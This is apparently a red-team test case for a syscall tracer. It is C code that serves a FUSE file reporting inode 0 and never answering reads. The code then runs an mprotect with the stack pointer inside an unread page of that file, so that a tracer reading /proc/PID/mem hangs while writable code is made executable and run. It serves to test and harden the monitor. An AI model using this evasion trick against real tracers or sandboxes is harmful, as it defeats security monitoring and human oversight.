/*
 * attack_peek_ino0: a FUSE file whose server says its inode number is 0
 * (red team 7). The tracer reads tree memory (a stack sample to name a
 * caller) only where private anonymous mappings cover it, and took a
 * private mapping with inode 0 for anonymous memory: the kernel's VMA
 * query (PROCMAP_QUERY) and the maps file both show the inode number the
 * FUSE server gave.
 *
 * As attack_stack_peek: in a mount namespace of its own the program serves
 * "f" from a thread that never answers a READ (root); a page of f is
 * mapped private read-write and never touched; the stack pointer is moved
 * into it for one raw mprotect that makes written code R-X. A tracer that
 * reads that page through /proc/PID/mem waits for the server for ever.
 * Natively the page is never read: the mprotect succeeds and the code runs.
 */
#define _GNU_SOURCE
#include "tw_fuse.h"

#include <pthread.h>
#include <sys/stat.h>

#define FILE_NODE 2

static void fill_attr(struct fuse_attr *attr, uint64_t node)
{
	memset(attr, 0, sizeof(*attr));
	/* The file's inode number, as the server tells it: 0 for f. */
	attr->ino = node == FILE_NODE ? 0 : node;
	attr->blksize = 4096;
	attr->mode = node == FILE_NODE ? S_IFREG | 0644 : S_IFDIR | 0755;
	attr->nlink = node == FILE_NODE ? 1 : 2;
	attr->size = node == FILE_NODE ? 4096 : 0;
}

/* A file "f" whose READs are never answered. */
static int handle(struct fuse_in_header *in, void *arg)
{
	switch (in->opcode) {
	case FUSE_LOOKUP: {
		struct fuse_entry_out entry = {0};

		if (in->nodeid != FUSE_ROOT_ID || strcmp((char *)arg, "f") != 0) {
			tw_fuse_reply(in->unique, -ENOENT, NULL, 0);
			break;
		}
		entry.nodeid = FILE_NODE;
		entry.entry_valid = entry.attr_valid = 3600;
		fill_attr(&entry.attr, FILE_NODE);
		tw_fuse_reply(in->unique, 0, &entry, sizeof(entry));
		break;
	}
	case FUSE_GETATTR:
		tw_fuse_reply_attr(in, fill_attr, 3600);
		break;
	case FUSE_READ:
		break; /* never answered */
	default:
		return 0;
	}
	return 1;
}

static void *serve(void *unused)
{
	(void)unused;
	tw_fuse_serve(handle);
	return NULL;
}

/* mprotect with the stack pointer at `stack` for the syscall. */
static long mprotect_on_stack(void *stack, void *addr, size_t len, long prot)
{
	long ret;

	__asm__ volatile("mov %%rsp, %%r12\n\t"
			 "mov %[stack], %%rsp\n\t"
			 "syscall\n\t"
			 "mov %%r12, %%rsp"
			 : "=a"(ret)
			 : "a"(10L), "D"(addr), "S"(len), "d"(prot), [stack] "r"(stack)
			 : "rcx", "r11", "r12", "memory");
	return ret;
}

int main(void)
{
	char dir[] = "/tmp/tw_peek0_XXXXXX";
	char path[64];
	unsigned char *unread, *code;
	pthread_t server;
	int fd;

	tw_init();
	if (!mkdtemp(dir))
		return 1;
	if (tw_fuse_mount(dir) != 0)
		return 3;
	if (pthread_create(&server, NULL, serve, NULL) != 0)
		return 1;
	snprintf(path, sizeof(path), "%s/f", dir);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	tw_step("fuse_open", "openat", fd, errno);
	if (fd < 0)
		return tw_done();
	unread = tw_mmap("unread_mmap", NULL, tw_page(), TW_RW, MAP_PRIVATE | MAP_32BIT, fd, 0);
	/* Its FLUSH is answered now (ENOSYS: never asked again), not at exit,
	 * when the server thread is gone. */
	close(fd);
	if (unread != MAP_FAILED) {
		struct tw_map m;

		if (tw_find_map(unread, &m) == 0)
			tw_emit("MAPS f %lx-%lx %s %s", m.start, m.end, m.perms, m.path);
	}
	code = tw_mmap("code_mmap", NULL, tw_page(), TW_RW, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (unread == MAP_FAILED || code == MAP_FAILED)
		return tw_done();
	tw_put_code(code);
	if (tw_step_raw("peek_rx_mprotect", "mprotect",
			mprotect_on_stack(unread + 2048, code, tw_page(), TW_RX)) == 0)
		tw_run("peek_ino0_call", code);
	umount2(dir, MNT_DETACH);
	return tw_done();
}
